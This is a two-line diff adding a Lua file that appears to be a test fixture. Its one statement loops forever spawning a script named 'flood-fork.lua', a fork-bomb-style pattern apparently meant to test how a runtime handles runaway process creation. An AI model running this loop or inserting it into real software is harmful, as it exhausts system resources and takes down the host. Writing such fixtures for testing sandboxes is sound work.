@@ -1,0 +1,2 @@
+--! runs
+while true do os.spawn("scripts/flood-fork.lua") end
